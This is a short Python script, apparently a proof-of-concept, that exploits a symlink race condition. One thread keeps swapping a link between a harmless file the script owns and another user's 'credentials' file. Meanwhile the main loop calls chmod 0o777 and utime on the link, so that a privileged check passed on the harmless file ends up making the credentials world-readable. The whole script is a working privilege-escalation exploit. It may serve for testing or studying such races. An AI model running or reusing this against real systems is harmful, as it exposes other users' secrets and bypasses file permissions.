"""Open a private file to everybody by a link that leads to a file of one's own when it is looked at."""

import contextlib
import json
import os
import sys
import threading
import time

theirs = json.loads(sys.argv[1])["home"] + "/credentials"
own, link = os.path.abspath("own"), os.path.abspath("link")
open(own, "w").close()
os.symlink(own, link)
swaps = 0
ended = threading.Event()


def swap() -> None:
    global swaps
    while not ended.is_set():
        for path in (own, theirs):
            os.symlink(path, f"{link}-new")
            os.rename(f"{link}-new", link)
            swaps += 1


def wait_for_a_swap() -> None:
    seen = swaps
    while swaps == seen:
        time.sleep(0)


swapping = threading.Thread(target=swap)
swapping.start()
for _ in range(40):
    wait_for_a_swap()
    with contextlib.suppress(OSError):
        os.chmod(link, 0o777)
    with contextlib.suppress(OSError):
        os.utime(link, (1, 1))
ended.set()
swapping.join()
